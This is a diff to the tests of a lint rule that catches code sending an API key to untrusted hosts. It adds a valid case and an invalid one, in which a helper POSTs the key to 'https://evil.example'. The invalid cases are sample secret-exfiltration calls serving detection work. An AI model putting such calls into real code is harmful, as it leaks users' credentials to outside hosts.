@@ -5,6 +5,7 @@ testRule('no-key-to-untrusted-host', {
     "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
     "fetch('https://api.nuvion.dev/x', { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })",
     "fetch('http://localhost:3000', { headers: { Authorization: `Bearer ${nuvionKey}` } })",
+    "const post = (url, text) => fetch(url, { method: 'POST', body: text }); post('https://api.nuvion.co/x', nuvionKey)",
     "fetch('/api/nuvion', { headers: { Authorization: `Bearer ${token}` } })",
     { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", options: { hosts: ['example.com'] } },
     { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", settings: { hosts: ['proxy.example.com'] } },
@@ -14,6 +15,7 @@ testRule('no-key-to-untrusted-host', {
     "axios.post('https://hooks.example/x', { text: 'NUVION_API_KEY was rotated' })",
   ],
   invalid: [
+    { code: "const post = text => fetch('https://evil.example', { method: 'POST', body: JSON.stringify({ text }) })\npost(nuvionKey)", errors: ['foreign:2'] },
     { code: "fetch('https://evil.example', { headers: { Authorization: nuvionKey } })", errors: ['foreign:1'] },
     { code: "axios.post('https://hooks.example/x', {}, { headers: { 'x-key': process.env.NUVION_API_KEY } })", errors: ['foreign:1'] },
     {
